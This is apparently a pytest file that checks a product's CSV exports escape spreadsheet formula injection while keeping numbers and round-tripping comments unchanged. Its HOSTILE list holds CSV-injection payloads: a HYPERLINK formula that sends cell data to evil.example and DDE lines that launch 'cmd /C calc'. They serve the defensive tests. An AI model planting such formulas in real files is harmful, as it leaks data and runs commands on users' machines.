"""Every CSV railval writes is safe to open in a spreadsheet (OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection).

The two CSV writers of the product: the workshop answers export (``railval workshop export``,
free-text comments typed by panelists) and the campaign data files (``railval export
--format csv``, numbers only). A text cell beginning with ``=``, ``+``, ``-``, ``@``, tab or
carriage return gets a leading single quote; numbers, negative ones included, stay numbers;
the answers import reads an exported comment back unchanged. Both database backends.
"""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest
from railval.app.cli import main as cli
from railval.app.services import workshop_answers as wa
from railval.app.services import workshops as ws
from railval.core.errors import CampaignFormatError
from railval.db import users
from railval.db import workshops as wsdb
from railval.db.engine import connect
from railval.db.importer import import_campaign
from railval.db.io import read_table, write_table
from railval.db.models import WorkshopAnswer
from railval.db.io.formats import FORMULA_LEADS, spreadsheet_safe, spreadsheet_text

from sqlalchemy import select

from tests.factories import write_demo_campaign

#: comments a hostile panelist types; a spreadsheet would run each as a formula
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"details")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
#: comments that must come out exactly as typed, without a quote
PLAIN = ["fine; the peak at 12 s is off", "a - b", "'just an apostrophe", ""]


@pytest.fixture(scope="module")
def workshop_db(module_db_url, tmp_path_factory):
    folder = tmp_path_factory.mktemp("csvinj")
    write_demo_campaign(folder / "demo", n_sections=1, fmt="parquet", seed=11, name="demo")
    db = connect(module_db_url)
    db.init()
    import_campaign(db, folder / "demo")
    ws.create(db, "W", "demo", kinds=["Y_time"], repeats=0.0)
    with db.session(write=True) as s:
        users.create_user(s, "orga", password="organiser-pass", roles=["organiser"])
    yield db
    db.dispose()


def test_formula_leads_are_owasp_list():
    assert FORMULA_LEADS == ("=", "+", "-", "@", "\t", "\r")
    for lead in FORMULA_LEADS:
        assert spreadsheet_safe(lead + "x") == "'" + lead + "x"
        assert spreadsheet_text(spreadsheet_safe(lead + "x")) == lead + "x"
    assert spreadsheet_safe("'=x") == "''=x" and spreadsheet_text("''=x") == "'=x"
    assert spreadsheet_safe("'x") == "'x" == spreadsheet_text("'x")
    for number in (-1, -0.25, 3, 0.0, np.float64(-7.5)):
        assert spreadsheet_safe(number) is number


def test_workshop_export_quotes_formulas_and_keeps_numbers(workshop_db, tmp_path):
    db = workshop_db
    with db.session() as s:
        plots = [p.id for p in wsdb.plots(s, wsdb.get_workshop(s, "W")) if p.scaling == "fixed"]
    comments = HOSTILE + PLAIN
    typed = {(f"paper{i // len(plots)}", plots[i % len(plots)]): c for i, c in enumerate(comments)}
    src = tmp_path / "answers.csv"
    with src.open("w", newline="", encoding="utf-8") as fh:
        wr = csv.writer(fh)
        wr.writerow(wa.CSV_COLUMNS)
        for (reviewer, plot), comment in typed.items():
            wr.writerow([reviewer, plot, "yes", "12.5", comment])
    wa.import_answers(db, "W", src)  # stored as typed: the comment is the panelist's text
    with db.session(write=True) as s:  # a CR survives the review form, not a text-mode file read
        answer = s.scalar(select(WorkshopAnswer).where(WorkshopAnswer.comment == "\n=1+1"))
        answer.comment = "\r=1+1"

    out = tmp_path / "export.csv"
    assert cli(["--db", db.url, "--as", "orga", "workshop", "export", "W", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as fh:
        raw = fh.read()
    rows = list(csv.reader(io.StringIO(raw)))
    header, body = rows[0], rows[1:]
    col = {h: i for i, h in enumerate(header)}
    got = {(r[col["reviewer"]], int(r[col["plot"]])): r for r in body}
    assert set(got) == set(typed)
    for key, comment in typed.items():
        cell = got[key][col["comment"]]
        if comment in HOSTILE:
            assert cell == "'" + comment, (comment, cell)
        else:
            assert cell == comment
        assert not cell.startswith(FORMULA_LEADS)
    # numbers stay numbers: plot, seconds and position are written unquoted, without a prefix
    for line in raw.split("\r\n")[1:]:
        if line.startswith('"paper') and line.count(",") == len(header) - 1:
            fields = line.split(",")
            assert fields[col["plot"]].isdigit() and fields[col["seconds"]] == "12.5"
            assert fields[col["position"]].isdigit()
    # the import reads the exported comments back exactly as typed
    back = {(r["reviewer"], r["plot"]): r["comment"] for r in wa.parse_answers_csv(raw, "export.csv")}
    assert back == typed


def test_campaign_csv_export_writes_numbers_only(tmp_path):
    """Data files hold numbers (negative forces included, unquoted, no prefix); a column
    name a spreadsheet would read as a formula is refused, and text never reaches the file."""
    path = tmp_path / "S01.csv"
    write_table(path, {"time_s": np.array([0.0, 0.005]), "Y_w1L": np.array([-1.25, -0.5])})
    text = path.read_text()
    assert text.splitlines()[1:] == ["0,-1.25", "0.005,-0.5"]
    assert np.array_equal(read_table(path)["Y_w1L"], [-1.25, -0.5])
    with pytest.raises(CampaignFormatError, match="column name '=1\\+1' begins like a spreadsheet "
                       "formula") as info:
        write_table(tmp_path / "bad.csv", {"time_s": np.array([0.0]), "=1+1": np.array([1.0])})
    assert info.value.field == "=1+1"
    with pytest.raises(ValueError, match="could not convert string to float"):
        write_table(tmp_path / "bad2.csv", {"time_s": np.array([0.0]), "note": np.array(["=1+1"])})
    assert not (tmp_path / "bad.csv").exists() and not (tmp_path / "bad2.csv").exists()
